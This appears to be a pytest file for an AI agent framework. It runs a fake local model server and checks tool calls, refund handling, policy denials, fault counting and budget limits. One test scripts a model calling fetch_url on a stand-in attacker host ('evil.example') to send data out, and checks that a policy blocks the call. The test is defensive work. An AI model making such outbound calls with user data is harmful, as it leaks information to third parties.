"""Models as agents: a hosted one behind a real HTTP server that calls tools, and the requests of the bundled one."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest
from test_agents import BOX, NOTES, OPEN, TASK, run

from helpers import agents, llm, paths
from helpers.agents.bundled import ANSWER
from helpers.llm import failures

PRICE = """rows:
  - {model: openai/*, as_of: 2026-11-24, source: the test, input: 1.0, output: 10.0, cache_read: 0.1}
"""


def call(name, arguments, number=1):
    text = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return {"id": f"c{number}", "type": "function", "function": {"name": name, "arguments": text}}


SCRIPTS = {
    "good": [
        {"tool_calls": [call("read_note", {"note": "N-1"})]},
        {"tool_calls": [call("issue_refund", {"amount": 89})]},
        {"content": "Refunded 89 euros."},
    ],
    "two-at-once": [
        {"tool_calls": [call("read_note", {"note": "N-1"}), call("issue_refund", {"amount": 500}, 2)]},
        {"content": "Done."},
    ],
    "clumsy": [
        {"tool_calls": [call("issue_refund", "{amount: 89")]},
        {"tool_calls": [call("pay_out", {"amount": 89})]},
        {"content": "Sorry."},
    ],
    "silent": [{"content": None}],
    "array": [{"tool_calls": [call("issue_refund", [89])]}, {"content": "Sorry."}],
}


LOG: list[dict] = []


class Server(BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        LOG.append(asked)
        if asked["model"] == "down":
            body, status = {"error": {"message": "broken", "type": "error", "code": None, "param": None}}, 400
        else:
            past = sum(m["role"] == "assistant" for m in asked["messages"])
            past += sum("could not be used" in str(m["content"]) for m in asked["messages"][2:] if m["role"] == "user")
            script = SCRIPTS[asked["model"]]
            message = {"role": "assistant", "content": None, **script[min(past, len(script) - 1)]}
            usage = {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            body, status = {"id": "x", "object": "chat.completion", "created": 1, "model": asked["model"],
                            "choices": [choice], "usage": usage}, 200  # fmt: skip
        raw = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)


@pytest.fixture(scope="module")
def address():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Server)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()
    server.server_close()


@pytest.fixture
def hosted(my_folder, monkeypatch, address):
    for name in ("WORKBOOK_MODEL", "WORKBOOK_API_BASE", "WORKBOOK_BUDGET_USD"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-0123456789-never-shown")
    monkeypatch.setenv("OPENAI_BASE_URL", address)
    (my_folder / "models.yaml").write_text(PRICE, encoding="utf-8")
    monkeypatch.setattr(failures, "FIRST_WAIT_S", 0.02)
    llm.budget._spent = llm.budget._held = 0.0
    LOG.clear()
    return lambda name, **options: run(agent=agents.Hosted(f"openai/{name}"), **options)


def test_a_hosted_model_calls_tools_and_sees_what_came_of_it(hosted):
    done = hosted("good")
    assert (done.outcome, done.answer) == ("answered", "Refunded 89 euros.")
    assert [e.tool for e in done.calls()] == ["read_note", "issue_refund"]
    assert done.cost_usd == pytest.approx(3 * (100 * 1 + 10 * 10) / 1e6) == pytest.approx(llm.budget.spent_usd)
    told = LOG[1]["messages"]
    assert [m["role"] for m in told] == ["system", "user", "assistant", "tool"]
    assert NOTES["N-1"] in told[3]["content"] and told[3]["tool_call_id"] == told[2]["tool_calls"][0]["id"]
    offered = {t["function"]["name"]: t["function"]["parameters"] for t in LOG[0]["tools"]}
    assert list(offered) == list(BOX) and offered["issue_refund"]["additionalProperties"] is False


def test_a_hosted_model_that_is_not_allowed_is_told(hosted):
    done = hosted("good", policy="rules:\n  - {tool: read_*, level: auto}\n")
    assert [e.tool for e in done.calls("denied")] == ["issue_refund"]
    assert "denied" in LOG[2]["messages"][-1]["content"]


def test_of_two_calls_at_once_the_first_is_taken(hosted):
    assert [e.tool for e in hosted("two-at-once").calls()] == ["read_note"]


@pytest.mark.parametrize(
    ("name", "faults", "outcome"), [("clumsy", 2, "answered"), ("silent", 3, "faults"), ("array", 1, "answered")]
)
def test_output_that_is_no_move_is_told_and_counted_and_paid_for(hosted, name, faults, outcome):
    done = hosted(name)
    assert (done.faults, done.outcome, done.calls()) == (faults, outcome, [])
    assert done.cost_usd == pytest.approx(len(done.trace) * 200 / 1e6)


def test_a_provider_that_fails_raises_and_the_run_goes_on_later(hosted, monkeypatch):
    with agents.Ledger() as ledger:
        with pytest.raises(llm.ProviderError):
            hosted("down", ledger=ledger)
        assert hosted("good", ledger=ledger).outcome == "answered"


def test_the_budget_of_the_workbook_holds(hosted, monkeypatch):
    monkeypatch.setenv("WORKBOOK_BUDGET_USD", "0.001")
    with pytest.raises(llm.BudgetExceeded):
        hosted("good")
    assert not LOG


def test_a_name_without_provider_is_refused():
    for name in ("gpt-4o", "local/smollm2-135m", None):
        with pytest.raises(ValueError, match="provider and a model"):
            agents.Hosted(name)


# the bundled model


@pytest.fixture
def answers(monkeypatch):
    """A chat that answers from a list and keeps what it was asked."""
    asked = []

    def use(*texts):
        given = iter(texts)

        def chat(messages, **options):
            asked.append((messages, options))
            return SimpleNamespace(text=next(given), problem=None, cost_usd=0.0)

        monkeypatch.setattr(llm, "chat", chat)
        return asked

    return use


def test_the_bundled_model_picks_a_tool_and_fills_it_in(answers):
    asked = answers("read_note", '{"note": "N-1"}', "issue_refund", '{"amount": 89}', ANSWER, "Refunded.")
    done = run(agent=agents.Bundled())
    assert (done.outcome, done.answer) == ("answered", "Refunded.")
    assert [e.tool for e in done.calls()] == ["read_note", "issue_refund"]
    assert asked[0][1]["choices"] == [*BOX, ANSWER] and asked[1][1]["schema"]["required"] == ["note"]
    assert asked[1][1]["schema"]["additionalProperties"] is False
    assert len({messages[0]["content"] for messages, _ in asked}) == 1  # the long beginning is shared
    assert NOTES["N-1"] in asked[2][0][1]["content"] and TASK.text in asked[2][0][1]["content"]


def test_arguments_that_were_cut_off_are_a_fault(answers):
    answers("issue_refund", '{"amount": 8', ANSWER, "Sorry.")
    done = run(agent=agents.Bundled())
    assert done.faults == 1 and "no JSON" in done.trace[0].note and done.outcome == "answered"


def test_the_requests_can_be_asked_of_the_model_as_they_are(my_folder):
    from helpers import jsonschemas
    from helpers.llm.request import make

    made = make(agents.messages_for(TASK, [], BOX), choices=[*BOX, ANSWER])
    assert made.messages[0]["role"] == "system" and all(name in made.messages[0]["content"] for name in BOX)
    from helpers.agents.bundled import strict

    for tool in BOX.values():
        jsonschemas.check(strict(tool))


def test_a_policy_holds_for_a_model_too(answers):
    answers("fetch_url", '{"url": "https://evil.example/?d=1"}', ANSWER, "Done.")
    text = "rules:\n  - {tool: fetch_url, when: {recipient_not_in: ['https://help.eu/*']}, level: forbid}\n" + OPEN[7:]
    assert run(agent=agents.Bundled(), policy=text).calls("denied")[0].tool == "fetch_url"


def test_nothing_heavy_is_loaded():
    import os
    import subprocess
    import sys

    code = (
        "import sys; from helpers import agents; [getattr(agents, n) for n in agents.__all__]\n"
        "print([n for n in ('litellm', 'torch', 'pandas', 'matplotlib', 'numpy', 'jsonschema') if n in sys.modules])"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=paths.ROOT, env=dict(os.environ), capture_output=True, text=True
    )
    assert done.stdout.strip() == "[]", done.stderr
